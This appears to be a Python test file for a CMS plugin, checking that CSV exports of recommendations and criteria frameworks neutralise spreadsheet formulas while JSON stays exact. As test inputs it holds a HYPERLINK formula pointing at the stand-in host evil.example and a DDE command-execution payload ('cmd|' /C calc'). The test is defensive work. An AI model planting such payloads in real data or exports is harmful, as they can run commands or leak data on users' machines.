"""Recommendations and frameworks exported as CSV cannot carry a live spreadsheet formula
(issue 19, item 5); the JSON stays exact and a framework exported and imported again is the same."""
from __future__ import annotations

import csv
import datetime as dt
import io

from sqlalchemy import select

from comun_cms.toolkit import db, tenant_context
from plugins.criteria import services
from plugins.criteria.framework_io import build_framework, export_csv, parse_csv
from plugins.criteria.models import CriteriaFramework, Criterion

from .conftest import import_small

TITLE = '=HYPERLINK("http://evil.example/?x","Ver detalle")'
BODY = "@SUM(1+1)*cmd|' /C calc'!A0"


def _csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def test_recommendation_title_and_body_are_neutralized_in_csv_and_exact_in_json(app, client):
    hidalgo = app.extensions["comun"].tenants["hidalgo"]
    import_small(hidalgo)
    with tenant_context(hidalgo):
        criteria = list(db.session.scalars(select(Criterion).order_by(Criterion.position)))[:1]
        rec = services.issue_recommendation(title=TITLE, body=BODY, criteria=criteria, issued_on=dt.date(2026, 8, 1),
                                            issuer_organization="-Colectivo")
        db.session.commit()
        rec_id = rec.id
    (row,) = _csv_rows(client.get("/hidalgo/datos/criteria-recommendations.csv"))
    assert row["title"] == "'" + TITLE and row["body"] == "'" + BODY
    assert row["issuer_organization"] == "'-Colectivo"
    assert row["id"] == str(rec_id) and row["age_days"].lstrip("-").isdigit()  # numbers stay numbers
    (portal_row,) = _csv_rows(client.get("/datos/criteria-recommendations.csv"))
    assert portal_row["title"] == "'" + TITLE and portal_row["tenant"] == "hidalgo"
    (record,) = client.get("/hidalgo/datos/criteria-recommendations.json").get_json()["records"]
    assert record["title"] == TITLE and record["body"] == BODY and record["issuer_organization"] == "-Colectivo"


def test_a_framework_with_formula_like_text_round_trips_exactly(app, edomex):
    csv_text = ("code,category,category_name,points,title,scoring_type,legal_basis,periodicity,evidence_required\n"
                'A-01,A,Marco normativo,100,"=HYPERLINK(""http://evil.example/?x"",""Ver"")",binary,'
                "@ley,permanent,yes\n")
    fw = import_small(edomex, csv=csv_text)
    with tenant_context(edomex):
        fw = db.session.scalar(select(CriteriaFramework).where(CriteriaFramework.id == fw.id))
        text = export_csv(fw)
        (row,) = csv.DictReader(io.StringIO(text, newline=""))
        assert row["title"].startswith("'=HYPERLINK(") and row["legal_basis"] == "'@ley"
        assert row["points"] == "100"
        parsed = parse_csv(text)
        copy = build_framework(parsed, slug=fw.slug, version_label=fw.version_label, name=fw.name,
                               description=fw.description, valid_from=fw.valid_from, source=fw.source)
        assert parsed.criteria[0].title == '=HYPERLINK("http://evil.example/?x","Ver")'
        assert copy.content_sha256 == fw.content_sha256
